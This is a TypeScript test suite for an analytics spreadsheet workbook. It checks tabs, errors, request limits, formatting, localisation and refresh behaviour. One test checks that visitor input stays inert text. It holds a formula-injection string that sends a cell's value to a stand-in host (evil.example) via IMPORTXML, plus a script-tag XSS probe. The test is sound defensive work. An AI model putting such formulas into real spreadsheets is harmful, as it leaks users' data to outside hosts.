import { fillExampleSheet } from "../../../workbench/sheet/example/exampleSheet";
import { createWorkbench, type Workbench } from "../../../workbench/workbench";

/** What one opening of the workbook may cost: a minute of the Growth plan has 30 requests. */
const mostRequests = 24;

let workbench: Workbench;

async function open(): Promise<void> {
  workbench = await createWorkbench();
  fillExampleSheet(workbench.book);
  await workbench.settled();
}

describe("the example workbook", () => {
  beforeAll(open);
  afterAll(() => workbench.close());

  const cellsOf = (sheetId: string) => {
    const zone = workbench.book.port.dataZone(sheetId);
    return zone ? workbench.book.port.read(sheetId, zone).flat() : [];
  };
  const formulas = () => {
    const { getters } = workbench.book.model;
    return getters
      .getSheetIds()
      .flatMap((sheetId) => getters.getCells(sheetId))
      .flatMap((cell) => (cell.isFormula ? [cell.compiledFormula.toFormulaString(getters)] : []));
  };

  test("has a tab for each part of what can be asked", () => {
    expect(workbench.book.port.sheets().map(({ name }) => name)).toEqual([
      "Overview",
      "Data center",
      "Heatmap",
      "Events",
      "Conversions",
      "Experiences",
      "Lists",
    ]);
  });

  test("shows no error and nothing that is still awaited", () => {
    const failed = workbench.book.port
      .sheets()
      .flatMap(({ id, name }) => cellsOf(id).map((cell) => ({ name, ...cell })))
      .filter(({ error, display }) => error !== undefined || display === "Loading..." || display.startsWith("#"));
    expect(failed.map(({ name, display, error }) => ({ name, display, error }))).toEqual([]);
  });

  test("needs few requests, none of which fails", async () => {
    const { log } = await workbench.api!.control.state();
    expect(log.filter(({ status }) => status !== 200)).toEqual([]);
    expect(log.length).toBeLessThanOrEqual(mostRequests);
  });

  test("uses every function that asks for data", () => {
    const used = new Set(formulas().flatMap((text) => text.match(/PTENGINE_\w+/g) ?? []));
    const published = workbench.book.snapshot().functions.map(({ name }) => name);
    expect(published.filter((name) => !used.has(name))).toEqual(["PTENGINE_FILTER"]);
  });

  test("shows rates, durations, days and money as such", () => {
    const [, share] = workbench.display("Conversions!B8:C8")[0]!;
    expect(share).toMatch(/^\d+\.\d%$/);
    expect(workbench.display("Conversions!D9")).toEqual([[expect.stringMatching(/^¥[\d,]+$/)]]);
    expect(workbench.display("Data center!I8")).toEqual([[expect.stringMatching(/^0:00:\d\d$/)]]);
    expect(workbench.display("Events!F8")).toEqual([[expect.stringMatching(/^\d{4}-\d\d-\d\d$/)]]);
  });

  test("has formulas that all follow a refresh", () => {
    const asking = formulas().filter((text) => text.includes("PTENGINE_"));
    expect(asking.filter((text) => !/PTENGINE_REFRESH\)/.test(text))).toEqual([]);
  });

  test("what visitors typed stays text", () => {
    const typed = workbench.values("Experiences!I8:I400").flat().map(String);
    const dangerous = typed.filter((text) => text.startsWith("="));
    expect(dangerous).toContain('=IMPORTXML("http://evil.example/?"&A1,"//a")');
    expect(typed).toContain("<script>alert('x')</script>");
    expect(workbench.values("Experiences!J4")).toEqual([[dangerous.length]]);
    expect(formulas().filter((text) => text.includes("IMPORTXML"))).toEqual([]);
  });
});

describe("the example workbook of another country", () => {
  const tabNames = { ja_JP: ["概要", "データセンター"], zh_CN: ["概览", "数据中心"] };

  test.each(["ja_JP", "zh_CN"] as const)("speaks its language throughout and shows no error: %s", async (locale) => {
    const opened = await createWorkbench({ book: { locale } });
    fillExampleSheet(opened.book);
    await opened.settled();
    const tabs = opened.book.port.sheets();
    const names = tabNames[locale];
    const inItsWords = expect.stringMatching(/[\p{Script=Han}\p{Script=Katakana}]/u);
    expect(tabs.slice(0, 2).map(({ name }) => name)).toEqual(names);
    expect(opened.display(`${names[1]}!A7:C7`)).toEqual([[inItsWords, inItsWords, inItsWords]]);
    expect(opened.display(`${tabs.at(-1)!.name}!R5:S5`)).toEqual([[inItsWords, inItsWords]]);
    const failed = tabs.flatMap(({ id }) =>
      opened.book.port
        .read(id, opened.book.port.dataZone(id)!)
        .flat()
        .filter(({ error }) => error !== undefined),
    );
    expect(failed).toEqual([]);
    const { log } = await opened.api!.control.state();
    expect(log.length).toBeLessThanOrEqual(mostRequests);
    await opened.close();
  });
});

describe("the example workbook, when its questions are changed,", () => {
  beforeAll(open);
  afterAll(() => workbench.close());

  test("asks anew when it is refreshed", async () => {
    await workbench.api!.control.change({ resetCounters: true });
    expect(await workbench.runMenu("menuRefreshFormulas")).toMatchObject({ ok: true });
    expect(workbench.values("Lists!V2")).toEqual([[expect.stringMatching(/^[0-9a-z]{8}$/)]]);
    await workbench.settled();
    expect((await workbench.api!.control.state()).log.length).toBeGreaterThan(mostRequests);
  });

  test("follows the cells that name the period, the goal and the experience", async () => {
    await workbench.api!.control.change({ resetCounters: true });
    workbench.setFormula("Overview!B4", "先週");
    workbench.setFormula("Conversions!D4", "資料ダウンロード");
    workbench.setFormula("Experiences!B4", "Onboarding tour");
    await workbench.settled();
    expect(
      workbench
        .display("Overview!F7:F15")
        .flat()
        .filter((text) => text !== ""),
    ).toHaveLength(8);
    expect(workbench.display("Conversions!F8:F10")).toEqual([["1"], ["2"], [""]]);
    expect(workbench.display("Experiences!A12:A14")).toEqual([["Control"], ["Pattern 1"], ["パターン 2"]]);
    expect(workbench.display("Experiences!I7")).toEqual([["お名前"]]);
  });
});
